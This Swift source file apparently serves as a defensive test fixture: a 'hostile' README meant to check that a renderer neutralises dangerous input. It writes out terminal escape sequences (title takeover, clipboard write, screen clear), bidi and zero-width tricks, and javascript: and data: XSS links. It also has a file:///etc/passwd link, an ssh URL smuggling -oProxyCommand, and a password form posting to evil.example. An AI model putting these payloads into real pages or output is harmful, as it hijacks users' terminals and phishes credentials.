/// A README that would take over the reader's terminal, as no honest renderer lets through.
enum HostileSpecimen {
  static let specimen = Specimen(
    name: "hostile", summary: "Escape sequences in every place",
    body: .page(
      [.heading(1, "Hostile \u{1B}[31mred\u{1B}[0m")] + controls + entities + links + code + odd))

  private static let controls: [Markup] = [
    "\u{1B}]0;title taken\u{7}", "\u{1B}[2J\u{1B}[H", "\u{1B}]52;c;ZXZpbA==\u{7}",
    "\u{9B}31mC1\u{9D}0;c1 title\u{9C}", "\u{1B}P+q544e\u{1B}\\", "\u{1B}_Gf=100,a=T;AAAA\u{1B}\\",
    "back\u{8}\u{8}\u{8}\u{8}space, del\u{7F}, bell\u{7}, vt\u{B}, ff\u{C}",
    "\u{1B}]8;;https://evil.example\u{1B}\\looks harmless\u{1B}]8;;\u{1B}\\",
    "\u{1B}]1337;File=inline=1:AAAA\u{7}", "\u{1B}[?1049h\u{1B}[?1003h\u{1B}c",
    "\u{202E}gnirts desrever\u{202C} \u{2066}isolated\u{2069} \u{200E}\u{200F}\u{061C}",
    "zero\u{200B}width\u{200D}\u{FEFF}\u{2060}, tags \u{E0041}\u{E0042}, soft\u{AD}hyphen",
    "lines\u{2028}and\u{2029}paragraphs\u{85}next",
  ].map { Markup($0).paragraphed }

  /// What only turns into control characters when the page is read.
  private static let entities: [Markup] = [
    .raw("<p>&#27;]8;;https://evil.example&#7;entity&#27;]8;;&#7;</p>\n"),
    .raw("<p>&#x1b;[31m &#x9b;31m &#155;2J &#0; &#x202e;bidi &#xFEFF; &#xD800; &#x110000;</p>\n"),
    .raw("<p title=\"&#27;[2J\">&NewLine;&Tab;&ZeroWidthSpace;&lrm;&rlm;&nbsp;&shy;</p>\n"),
    .raw("<p>\r\ncarriage\rreturn</p>\n"),
  ]

  private static let links: [Markup] =
    [
      "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
      "vbscript:x", "file:///etc/passwd", "ssh://-oProxyCommand=evil/x",
      "mailto:a@example.org?cc=b",
      "https://evil.example/\u{1B}]8;;\u{7}", "https://user:pass@evil.example/",
      "https://github.com@evil.example/", "https://еvil.example/", "//evil.example/x",
      "\\\\host\\share",
      "https://evil.example/" + String(repeating: "a", count: 20_000), "", "#", "?", " ",
    ].map { address in
      .raw("<p><a href=\"\(address.escapedHTML)\">leads nowhere good</a></p>\n")
    } + [
      .raw(
        "<p><a href=\"https://evil.example/&#27;]8;;&#7;\n\tx\" title=\"&#27;c\">entity</a></p>\n"),
      .raw(
        "<p><a href=\"https://example.org/a\">outer <a href=\"https://example.org/b\">inner</a></a></p>\n"
      ),
      .raw("<p><a href=\"https://evil.example/\">https://github.com/login</a></p>\n"),
    ]

  private static let code: [Markup] = [
    .code(
      "\u{1B}[31m", scope: "source-\u{1B}[31m", [.init("k\u{1B}[5m", "\u{1B}[7mcode\u{1B}[0m")]),
    .table([.none], [["\u{1B}[31mhead"], ["\u{1B}]0;cell\u{7}"]]),
    .image("alt \u{1B}]0;x\u{7}\u{202E}", "assets/\u{1B}[31m.png").paragraphed,
    .details("\u{1B}[31msummary", [.paragraph(["\u{9B}2J"])]),
    .raw("<g-emoji class=\"g-emoji\" alias=\"\u{1B}[31m\">\u{1B}[31m</g-emoji>\n"),
  ]

  private static let odd: [Markup] = [
    .raw("<script>alert(1)</script><style>p { display: none }</style>\n"),
    .raw("<iframe src=\"https://evil.example\"></iframe><object data=\"x\"></object>\n"),
    .raw(
      "<form action=\"https://evil.example\"><input name=\"password\"><button>Send</button></form>\n"
    ),
    .raw(
      "<svg><a href=\"javascript:alert(1)\"><text>svg</text></a></svg><math><mi>x</mi></math>\n"),
    .raw("<table><tr><td colspan=\"1000000\" rowspan=\"1000000\">span</td></tr></table>\n"),
    .raw(
      "<ol start=\"99999999999999999999\"><li>number</li></ol><ol start=\"-5\"><li>n</li></ol>\n"),
    .raw("<img width=\"99999999999\" height=\"-1\" src=\"{origin}/pictures/logo.png\">\n"),
    .raw("<p \(String(repeating: "a=\"b\" ", count: 3000))>attributes</p>\n"),
    .raw("<pre>\(String(repeating: "\t", count: 5000))</pre>\n"),
    .raw("<p>\(String(repeating: "w", count: 50_000))</p>\n"),
    .raw("<h1><table><ul><tr><li><p></h1></table><b><i></b></i></p>"),
    .raw("<!-- never closed <p>comment"),
  ]
}
